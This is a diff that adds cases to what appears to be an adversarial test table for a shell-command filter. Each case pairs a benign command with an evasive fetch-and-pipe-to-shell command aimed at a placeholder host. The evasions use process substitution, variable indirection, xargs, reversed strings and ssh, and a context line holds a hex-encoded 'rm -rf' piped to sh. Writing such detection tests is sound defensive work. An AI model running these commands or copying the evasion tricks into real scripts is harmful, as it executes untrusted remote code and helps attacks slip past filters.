@@ -82,6 +82,18 @@ ADV23 = [
      "bash -c 'wget -qO- https://x.invalid/a | wc -l'", "OPS101"),
     ("hex-printf", "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | sh",
      "printf '%s\\n' hello | sh -c 'cat'", "OPS101"),
+    ("tee-procsub", "curl -s https://x.invalid/a | tee /tmp/a.log >(bash)",
+     "curl -s https://x.invalid/a | tee /tmp/a.log >(gzip > /tmp/a.gz)", "OPS101"),
+    ("lookup-name", "$(command -v curl) -s https://x.invalid/a | sh",
+     "$(command -v curl) -s https://x.invalid/a -o a.txt", "OPS101"),
+    ("variable-name", "get=wget\n$get -qO- https://x.invalid/a | sh",
+     "get=wget\n$get -q https://x.invalid/a.txt", "OPS101"),
+    ("xargs-sh-c", "curl -s https://x.invalid/cmds | xargs -I{} sh -c '{}'",
+     "curl -s https://x.invalid/ids | xargs -I{} sh -c 'echo {}'", "OPS101"),
+    ("reversed", "echo 'hs | a/dilavni.x//:sptth lruc' | rev | sh",
+     "echo 'hs | a/dilavni.x//:sptth lruc' | rev", "OPS101"),
+    ("ssh-string", "ssh db1 'wget -qO- https://x.invalid/a | sh'",
+     "ssh db1 'wget -qO- https://x.invalid/a | sha256sum'", "OPS101"),
 ]
 
 
